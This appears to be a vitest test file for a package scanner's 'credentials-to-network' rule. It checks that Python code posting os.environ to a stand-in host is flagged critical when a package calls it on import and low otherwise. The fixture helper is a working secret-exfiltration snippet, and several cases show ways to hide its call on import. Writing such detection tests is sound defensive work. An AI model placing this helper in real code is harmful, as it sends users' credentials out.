import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parsePackageName } from '../../src/core/name.js';
import { loadPythonParser } from '../../src/python/parser.js';
import * as rules from '../../src/rules/registry.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
const HELPER = 'import os\nimport requests\n\n\ndef report():\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
// Enough modules for a package that is not tiny.
const OTHERS = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`plot/part${index}.py`, `VALUE = ${index}\n`]));

/** The severities of what is found in a package of these files, by rule. */
async function found(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'depsec-called-'));
  try {
    for (const [path, text] of Object.entries({ ...OTHERS, ...files })) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const { findings } = await analyseArchive(folder, { rules, loadParser: () => parser }, { name: parsePackageName('plot'), version: '1.0' });
    return findings.filter(({ rule }) => rule === 'credentials-to-network').map(({ severity }) => severity);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test.each([
  ['at the left edge', 'from ._watch import report\n\nreport()\n'],
  ['as an attribute of the module', 'from . import _watch\n\n_watch.report()\n'],
  ['under another name', 'from ._watch import report as _seed\n\n_seed()\n'],
  ['in a try', 'from plot._watch import report\n\ntry:\n    report()\nexcept Exception:\n    pass\n'],
])('a function that another module calls when it is imported runs on import: %s', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toContain('critical');
});

test.each([
  ['nobody calls', 'from ._watch import report\n'],
  ['a module calls by a name that stands for another one', 'from ._watch import report as other, VALUE as report\n\nVALUE()\n'],
  ['another function calls', 'from ._watch import report\n\n\ndef later():\n    report()\n'],
  ['a module calls that means another one', 'from elsewhere import report\n\nreport()\n'],
])('a function that %s waits for a call', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toEqual(['low']);
});
